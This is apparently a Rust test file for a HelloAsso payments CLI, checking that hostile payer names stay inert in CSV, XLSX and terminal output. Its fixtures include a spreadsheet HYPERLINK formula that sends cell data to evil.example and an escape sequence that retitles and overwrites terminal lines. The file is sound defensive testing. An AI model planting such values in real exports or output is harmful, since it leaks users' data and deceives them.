//! Payer text is data, never markup or commands: a payer's name that is a
//! spreadsheet formula or a terminal escape sequence reaches CSV (both
//! dialects), XLSX and the terminal inert; a text too long for a
//! spreadsheet cell is cut, not fatal to the workbook. httpmock plays a
//! HelloAsso whose payers chose their names with bad intent.

use calamine::{Data, Reader, Xlsx, open_workbook};
use httpmock::prelude::*;
use serde_json::json;

use crate::common::{bare, run_args};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Zoé\")";
/// Sets the terminal's title, then erases the line and writes over it.
const ESCAPES: &str = "\u{1b}]0;HACKED\u{7}\u{1b}[2K\rMartin";

struct Api {
    server: MockServer,
    home: tempfile::TempDir,
}

impl Api {
    /// One page of three payments: a formula for a name, escape sequences
    /// for a name, and a 40,000-character name.
    fn start() -> Self {
        let server = crate::common::mock_helloasso();
        let payment = |id: i64, first: &str, last: &str| {
            json!({
                "id": id, "amount": 1000, "state": "Authorized",
                "date": "2025-03-01T10:00:00+01:00",
                "payer": { "firstName": first, "lastName": last },
            })
        };
        let long = "x".repeat(40_000);
        server.mock(|when, then| {
            when.method(GET).path("/v5/organizations/mock-org/payments");
            then.status(200).json_body(json!({
                "data": [
                    payment(3, FORMULA, "-1+1"),
                    payment(2, "Ann", ESCAPES),
                    payment(1, &long, "Long"),
                ],
                "pagination": { "pageSize": 20 },
            }));
        });
        server.mock(|when, then| {
            when.method(GET).path("/v5/payments/2");
            then.status(200).json_body(payment(2, "Ann", ESCAPES));
        });
        Self {
            server,
            home: tempfile::tempdir().unwrap(),
        }
    }

    fn cli(&self) -> std::process::Command {
        let mut cmd = bare(self.home.path());
        cmd.env("HELLOASSO_ENVIRONMENT", self.server.base_url())
            .env("HELLOASSO_CLIENT_ID", "c")
            .env("HELLOASSO_CLIENT_SECRET", "s")
            .env("HELLOASSO_ORGANIZATION", "mock-org")
            .env("HELLOASSO_TOKEN_FILE", self.home.path().join("tokens.json"));
        cmd
    }
}

#[test]
fn payer_formulas_are_inert_in_both_csv_dialects() {
    let api = Api::start();
    for (dialect, delimiter) in [("rfc4180", b','), ("excel-fr", b';')] {
        let r = run_args(
            api.cli(),
            &[
                "payments",
                "list",
                "--format",
                "csv",
                "--csv-dialect",
                dialect,
            ],
        );
        r.ok();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .from_reader(r.stdout.trim_start_matches('\u{feff}').as_bytes());
        let headers = reader.headers().unwrap().clone();
        let payer = headers.iter().position(|h| h == "payer").unwrap();
        let amount = headers.iter().position(|h| h == "amount_eur").unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows[0][payer], format!("'{FORMULA} -1+1"), "{dialect}");
        // Cells a spreadsheet could run all start with the quote; amounts
        // stay numbers.
        for row in &rows {
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{dialect}: {cell:?}"
                );
            }
            assert!(
                row[amount].starts_with("10"),
                "{dialect}: {:?}",
                &row[amount]
            );
        }
    }
}

#[test]
fn payer_formulas_stay_text_in_xlsx_and_long_text_is_cut() {
    let api = Api::start();
    let out = api.home.path().join("payments.xlsx");
    let r = run_args(
        api.cli(),
        &["payments", "list", "--out", out.to_str().unwrap()],
    );
    // A 40,000-character name used to fail the whole workbook.
    r.ok();
    let mut book: Xlsx<_> = open_workbook(&out).expect("a readable XLSX");
    let range = book.worksheet_range("Payments").expect("the sheet");
    let payer = (0..range.width())
        .find(|c| range.get((0, *c)) == Some(&Data::String("PAYER".into())))
        .expect("a payer column");
    // A string cell holding the formula's text, not a formula.
    assert_eq!(
        range.get((1, payer)),
        Some(&Data::String(format!("{FORMULA} -1+1")))
    );
    let formulas = book.worksheet_formula("Payments").expect("the sheet");
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula was written"
    );
    match range.get((3, payer)) {
        Some(Data::String(long)) => {
            assert!(long.chars().count() <= 32_767, "{}", long.len());
            assert!(long.starts_with("xxxx"));
            assert!(
                long.ends_with("more characters]"),
                "{}",
                &long[long.len() - 50..]
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn payer_escape_sequences_never_reach_the_terminal() {
    let api = Api::start();
    let table = run_args(api.cli(), &["payments", "list", "--format", "table"]);
    table.ok();
    let detail = run_args(api.cli(), &["payments", "get", "2"]);
    detail.ok();
    for r in [&table, &detail] {
        assert!(!r.stdout.contains('\u{1b}'), "{:?}", r.stdout);
        assert!(!r.stdout.contains('\r'), "{:?}", r.stdout);
        assert!(r.stdout.contains("\\u{1b}]0;HACKED"), "{}", r.stdout);
    }
}

#[test]
fn server_text_in_an_error_line_cannot_drive_the_terminal() {
    let api = Api::start();
    api.server.mock(|when, then| {
        when.method(GET).path("/v5/payments/9");
        then.status(400).json_body(json!({
            "errors": [{ "code": "Bad", "message": format!("no payer {ESCAPES}") }],
        }));
    });
    let r = run_args(api.cli(), &["payments", "get", "9"]);
    r.fails(7, "HACKED");
    assert!(!r.stderr.contains('\u{1b}'), "{:?}", r.stderr);
    assert!(!r.stderr.contains('\u{7}'), "{:?}", r.stderr);
}
